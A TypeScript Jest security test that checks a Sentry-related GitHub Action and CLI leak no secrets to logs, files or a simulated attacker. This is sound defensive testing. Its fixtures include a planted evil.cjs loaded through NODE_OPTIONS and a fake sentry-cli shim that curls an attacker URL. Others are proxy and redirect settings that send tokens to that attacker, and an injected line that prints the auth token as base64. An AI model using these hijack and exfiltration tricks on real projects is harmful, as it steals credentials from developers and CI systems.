import { createHash } from 'node:crypto'
import { cpSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import { type ModeName, modeNames } from '../../src/core/mode.ts'
import { type Attacker, startAttacker } from '../support/attacker.ts'
import { runCommandLine } from '../support/command-line.ts'
import { hostileTexts } from '../support/hostile.ts'
import { type Canaries, leaks, type SinkTexts } from '../support/leaks.ts'
import type { ActionResult } from '../support/mini-runner/action-result.ts'
import type { ActionStep } from '../support/mini-runner/action-step.ts'
import { runAction } from '../support/mini-runner/run.ts'
import { actionStep, productRoot } from '../support/product.ts'
import { folderWith, repositoryWith } from '../support/repositories.ts'
import { altered, answersText, type Fault, failsWith, redirectsTo, withHeaders } from '../support/sentry/faults.ts'
import { type SimulatedSentry, startSentry } from '../support/sentry/server.ts'
import { securityTokenOf } from '../support/sentry/shapes/project.ts'
import { grantToken } from '../support/sentry/tokens.ts'
import { addIssuesTo, addRelease, grow } from '../support/sentry/world/grow.ts'
import { projectIn } from '../support/sentry/world/lookup.ts'
import type { TokenKind } from '../support/sentry/world/world.ts'
import { releases, web } from './matrix.ts'

// Each test starts processes, and machines are busy.
jest.setTimeout(60_000)

const secret = (name: string) => createHash('sha256').update(`canary ${name}`).digest('hex')

let sentry: SimulatedSentry
let attacker: Attacker
let checkout: string
let checkpoints: string

beforeAll(async () => {
  const keys = [
    { publicKey: secret('key').slice(0, 32) },
    { publicKey: secret('other key').slice(0, 32), isActive: false },
  ]
  const world = grow({
    organizations: [{ slug: 'acme', ...lived, projects: [web({ keys, id: 4_509_876_543_210_123 }), { slug: 'api' }] }],
  })
  sentry = await startSentry(world, { regionUrl: 'http://127.0.0.1:9' })
  attacker = await startAttacker()
  checkout = repositoryWith(hostileCheckout())
  checkpoints = folderWith()
})
afterAll(async () => {
  await sentry.close()
  await attacker.close()
})

const lived = { releases: [...releases] }

/** Every file from which some tool somewhere takes an address, a proxy or a way to be run. */
function hostileCheckout() {
  const { url, port } = attacker
  const variables = [
    `SENTRY_URL=${url}`,
    `SENTRY_AUTH_TOKEN=sntryu_${secret('env file')}`,
    `SENTRY_DSN=http://${secret('env file DSN').slice(0, 32)}@127.0.0.1:${port}/1`,
    ...['HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY'].map(name => `${name}=${url}`),
    'NO_PROXY=',
    'NODE_TLS_REJECT_UNAUTHORIZED=0',
    'SENTRY_ALLOW_FAILURE=1',
    'SENTRY_PROPERTIES=evil.properties',
    'NODE_OPTIONS=--require ./evil.cjs',
  ].join('\n')
  const ini = `[defaults]\nurl=${url}\norg=evil\n[auth]\ntoken=sntryu_${secret('rc file')}\n[http]\nproxy_url=${url}\nverify_ssl=false\n`
  const properties = `defaults.url=${url}\nhttp.proxy_url=${url}\nhttp.verify_ssl=false\nauth.token=sntryu_${secret('properties')}\n`
  return {
    'package.json': JSON.stringify({
      name: hostileTexts[0],
      version: '1.0.0',
      dependencies: { '@sentry/node': '^10.60.0' },
    }),
    '.env': variables,
    '.env.local': variables,
    '.sentryclirc': ini,
    'sentrycli.ini': ini,
    'sentry.properties': properties,
    'evil.properties': properties,
    '.npmrc': `registry=${url}\nproxy=${url}\n`,
    '.gitconfig': `[http]\n\tproxy = ${url}\n`,
    'evil.cjs': `require('http').get('${url}')`,
    'node_modules/.bin/sentry-cli': `#!/bin/sh\ncurl ${url}\n`,
  }
}

const kinds: readonly TokenKind[] = ['organization', 'personal', 'integration', 'oauth', 'legacy']

/** A token of that kind whose every character is a canary; an agent's is known to no server. */
function tokenOf(kind: TokenKind | 'agent'): string {
  if (kind === 'agent') return `sntryag_${secret('agent head')}.${secret('agent body')}.${secret('agent end')}`
  const claim = { url: sentry.url, region_url: attacker.url, org: 'acme' }
  return grantToken(
    sentry.world,
    { organization: 'acme', kind, scopes: ['org:read', 'project:read', 'event:read'] },
    claim,
  ).value
}

interface Scenario {
  readonly name: string
  readonly token?: () => string
  readonly dsn?: () => string
  readonly inputs?: () => Record<string, string>
  readonly env?: Record<string, string>
  readonly prepare?: (token: string) => void
  /** Test events that reach the server, from the step and from the command line together. */
  readonly sends?: number
}

const everywhere = (fault: (token: string) => Fault) => (token: string) =>
  sentry.inject({ path: '/api/0/**' }, fault(token))
const reflected = (token: string) => `${hostileTexts.join(' ')} Bearer ${token} ${token}`

/** Strangers write what they like into issues and releases, a secret that they know too. */
function repeatEverywhere(token: string): void {
  const now = Date.now()
  const version = `web@${token}`
  addRelease(
    sentry.world,
    'acme',
    { version, projects: ['web'], deploys: [{ environment: version, finished: '1h' }] },
    now,
  )
  const seed = {
    title: reflected(token),
    culprit: token,
    isUnhandled: true,
    firstRelease: 'web@2',
    releases: ['web@2', version],
    environments: [token],
    firstSeen: '3h',
    userCount: 80,
    count: 400,
    assignedTo: { type: 'team', id: '1', name: token },
  } as const
  addIssuesTo(sentry.world, 'acme/web', [seed], now)
  projectIn(sentry.world, 'acme/web').outcomes.push({
    outcome: 'invalid',
    category: 'error',
    reason: token,
    quantity: 9,
    from: now - 3_600_000,
    to: now,
  })
}

const sending: readonly ModeName[] = ['local-smoke', 'all', 'verify-loop']
const ofMode = (mode: ModeName): Scenario => ({
  name: `${mode}, where everything repeats the token`,
  token: () => tokenOf('integration'),
  inputs: () => ({ mode, release: 'web@2', 'redact-titles': 'never', 'state-file': join(checkpoints, `${mode}.json`) }),
  prepare: repeatEverywhere,
  sends: sending.includes(mode) ? 2 : 0,
})

const scenarios: readonly Scenario[] = [
  ...[...kinds, 'agent' as const].map(kind => ({ name: `a token, ${kind}`, token: () => tokenOf(kind) })),
  ...[401, 403, 404, 418, 429, 500, 503].map(status => ({
    name: `${status} that repeats the token`,
    prepare: everywhere(token => failsWith(status, { detail: reflected(token) })),
  })),
  {
    name: '403 with a structured message',
    prepare: everywhere(token =>
      failsWith(403, { detail: { code: token, message: reflected(token), extra: { token } } }),
    ),
  },
  { name: 'a page that repeats the token', prepare: everywhere(token => answersText(reflected(token))) },
  { name: 'text that is no JSON', prepare: everywhere(token => answersText(reflected(token), 'application/json')) },
  ...([301, 302, 303, 307, 308] as const).map(status => ({
    name: `${status} to an attacker`,
    prepare: everywhere(token => redirectsTo(`${attacker.url}/?token=${token}`, status)),
  })),
  {
    name: 'a slug that is the token',
    token: () => tokenOf('legacy'),
    inputs: () => ({ org: '', project: '' }),
    prepare(token) {
      const rename = altered(body =>
        Array.isArray(body) ? body.map(row => ({ ...row, slug: token })) : { ...(body as object), slug: token },
      )
      sentry.inject({ path: '/api/0/organizations/' }, rename)
      sentry.inject({ path: '/api/0/organizations/**' }, rename)
    },
  },
  {
    name: 'a renamed project whose new slug is the token',
    token: () => tokenOf('legacy'),
    prepare: token =>
      sentry.inject(
        { path: '/api/0/projects/acme/web/' },
        failsWith(302, { slug: token }, { location: `/api/0/projects/acme/${token}/` }),
      ),
  },
  {
    name: 'pages that lead to an attacker',
    inputs: () => ({ project: '' }),
    prepare: everywhere(() =>
      withHeaders({ link: `<${attacker.url}/>; rel="next"; results="true"; cursor="0:100:0"` }),
    ),
  },
  { name: 'a DSN of another project', dsn: () => sentry.dsn('acme/api') },
  { name: 'a DSN with a disabled key', dsn: () => sentry.dsn('acme/web', 1) },
  {
    name: 'a DSN with a secret key',
    dsn: () => sentry.dsn('acme/web').replace('@', `:${secret('DSN secret').slice(0, 32)}@`),
  },
  { name: 'a DSN that is cut', dsn: () => sentry.dsn('acme/web').replace(/\/\d+$/, '') },
  { name: 'a DSN in quotes', dsn: () => `"${sentry.dsn('acme/web')}"` },
  { name: 'the token in place of the DSN', dsn: () => tokenOf('personal') },
  { name: 'the DSN in place of the token', token: () => sentry.dsn('acme/web') },
  { name: 'a token in quotes', token: () => `"${tokenOf('personal')}"` },
  { name: 'a token with a line break inside', token: () => tokenOf('personal').replace(/^(.{30})/, '$1\n') },
  { name: 'a token behind its name', token: () => `SENTRY_AUTH_TOKEN=${tokenOf('personal')}` },
  { name: 'a token behind Bearer', token: () => `Bearer ${tokenOf('integration')}` },
  {
    name: 'a token that claims an attacker',
    token: () =>
      grantToken(
        sentry.world,
        { organization: 'acme', kind: 'organization' },
        { url: attacker.url, region_url: attacker.url, org: 'acme' },
      ).value,
  },
  {
    name: 'a proxy with a password',
    inputs: () => ({ 'sentry-url': 'https://sentry-monitor.invalid' }),
    env: { HTTPS_PROXY: `http://user:${secret('proxy password')}@127.0.0.1:9` },
  },
  {
    name: 'the token as a slug',
    token: () => tokenOf('legacy'),
    inputs: () => ({ project: sentry.world.tokens.at(-1)?.value ?? '' }),
  },
  {
    name: 'the token as an input of another kind',
    token: () => tokenOf('legacy'),
    inputs: () => ({ mode: sentry.world.tokens.at(-1)?.value ?? '' }),
  },
  {
    name: 'an address with a password',
    inputs: () => ({ 'sentry-url': `https://user:${secret('address password')}@sentry.io` }),
  },
  {
    name: 'certificates that are not checked',
    inputs: () => ({ 'sentry-url': 'https://sentry-monitor.invalid' }),
    env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' },
  },
  ...modeNames.map(ofMode),
]

interface Played {
  readonly sinks: SinkTexts
  readonly canaries: Canaries
}

/** Runs a scenario as a step and on the command line; everything that either of them left behind, unmasked. */
async function play(
  scenario: Scenario,
  step: (step: Omit<ActionStep, 'actionDir'>) => Promise<ActionResult> = actionStep,
): Promise<Played> {
  sentry.heal()
  sentry.forget()
  const token = scenario.token?.() ?? tokenOf('integration')
  const dsn = scenario.dsn?.() ?? sentry.dsn('acme/web')
  scenario.prepare?.(token)
  const inputs = {
    mode: 'all',
    org: 'acme',
    project: 'web',
    'sentry-url': sentry.url,
    'send-test-event': 'true',
    ...scenario.inputs?.(),
  }
  const own = { PLANTED_SECRET: secret('environment'), ...scenario.env }
  const githubToken = `ghs_${secret('github')}`
  const ran = await step({
    workspace: checkout,
    inputs: { ...inputs, 'auth-token': token, dsn },
    env: own,
    token: githubToken,
    runtime: {
      ACTIONS_RUNTIME_TOKEN: secret('runtime'),
      ACTIONS_RESULTS_URL: attacker.url,
      ACTIONS_CACHE_URL: attacker.url,
    },
    debug: true,
  })
  const flags = Object.entries(inputs)
    .filter(([, value]) => value !== '')
    .map(([name, value]) => `--${name}=${value}`)
  const cli = await runCommandLine([...flags, '--json', `--report-file=${join(folderWith(), 'report.json')}`], {
    cwd: checkout,
    env: { ...own, SENTRY_AUTH_TOKEN: token, SENTRY_DSN: dsn, GITHUB_TOKEN: githubToken },
  })
  const sinks = {
    ...sinksOf(ran),
    'command line, stdout': cli.stdout,
    'command line, stderr': cli.stderr,
    ...filesBelow(checkpoints, ''),
    ...received(),
  }
  ran.dispose()
  expect(cli.stdout).not.toBe('')
  return { sinks, canaries: canariesOf(token, dsn, githubToken) }
}

function sinksOf({ rawStdout, rawStderr, files }: ActionResult): SinkTexts {
  const log = rawStdout
    .split('\n')
    .filter(line => !line.startsWith('::add-mask::'))
    .join('\n')
  return { log, stderr: rawStderr, ...filesBelow(files.root, files.event) }
}

/** Every file that the step wrote, the event apart, which the runner itself writes. */
function filesBelow(root: string, event: string): SinkTexts {
  const names = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter(name =>
    statSync(join(root, name)).isFile(),
  )
  return Object.fromEntries(
    names.filter(name => join(root, name) !== event).map(name => [name, readFileSync(join(root, name), 'utf8')]),
  )
}

/** What reached the server, without the one header in which each secret belongs: the token at the API, the key at ingestion. */
function received(): SinkTexts {
  return Object.fromEntries(
    sentry.requests.map(({ method, target, headers, body, path }, index) => {
      const ingests = path.endsWith('/envelope/')
      const { authorization, 'x-sentry-auth': auth, ...rest } = headers
      const misplaced = ingests ? authorization : auth
      return [
        `request ${index}: ${method}`,
        JSON.stringify([target.replace(/^\/api\/0\/.*/, ''), rest, misplaced, body.toString('utf8')]),
      ]
    }),
  )
}

/** A value of several parts is given away by each. */
function canariesOf(token: string, dsn: string, githubToken: string): Canaries {
  const parts = token.split(/[^A-Za-z0-9+=]+/).filter(part => part.length >= 32)
  const keys = [...dsn.matchAll(/[0-9a-f]{32,}/g)].map(([key]) => key)
  const own = [
    'environment',
    'runtime',
    'env file',
    'env file DSN',
    'rc file',
    'properties',
    'proxy password',
    'address password',
    'other key',
    'DSN secret',
  ]
  return {
    ...Object.fromEntries(parts.map((part, index) => [`token, part ${index}`, part])),
    ...Object.fromEntries(keys.map((key, index) => [`DSN, key ${index}`, key])),
    ...Object.fromEntries(own.map(name => [name, secret(name).slice(0, 32)])),
    'github token': githubToken,
    'security token of the project': securityTokenOf(sentry.world.organizations[0]?.projects[0] ?? Object.create(null)),
    ...Object.fromEntries(
      (sentry.world.organizations[0]?.projects ?? []).flatMap(({ keys: all }) =>
        all.map(({ secretKey }, index) => [`secret key ${index}`, secretKey]),
      ),
    ),
  }
}

describe('no secret is in any sink, and nothing reaches anybody else', () => {
  test.each(scenarios.map(scenario => [scenario.name, scenario] as const))('%s', async (_, scenario) => {
    const { sinks, canaries } = await play(scenario)
    expect(Object.keys(sinks).length).toBeGreaterThan(6)
    expect(Object.keys(canaries).length).toBeGreaterThan(12)
    expect(leaks(sinks, canaries)).toEqual([])
    expect(attacker.heard).toEqual([])
    expect(sentry.writes.every(({ method, path }) => method === 'POST' && path.endsWith('/envelope/'))).toBe(true)
    if (scenario.sends !== undefined) expect(sentry.writes).toHaveLength(scenario.sends)
  })
})

describe('the controls', () => {
  test('a build that prints the token is caught', async () => {
    const faulty = folderWith()
    cpSync(join(productRoot, 'dist'), join(faulty, 'dist'), { recursive: true })
    cpSync(join(productRoot, 'action.yml'), join(faulty, 'action.yml'))
    const entry = join(faulty, 'dist/index.js')
    const leak = "process.stderr.write(Buffer.from(process.env['INPUT_AUTH-TOKEN'] ?? '').toString('base64'))\n"
    writeFileSync(entry, `${leak}${readFileSync(entry, 'utf8')}`)
    const { sinks, canaries } = await play({ name: 'faulty' }, step => runAction({ actionDir: faulty, ...step }))
    expect(leaks(sinks, canaries).some(leak => /token, part \d in stderr \(as base64/.test(leak))).toBe(true)
  })

  test('an attacker that is reached says so', async () => {
    const other = await startAttacker()
    await fetch(other.url)
    expect(other.heard).toHaveLength(2)
    await other.close()
  })
})
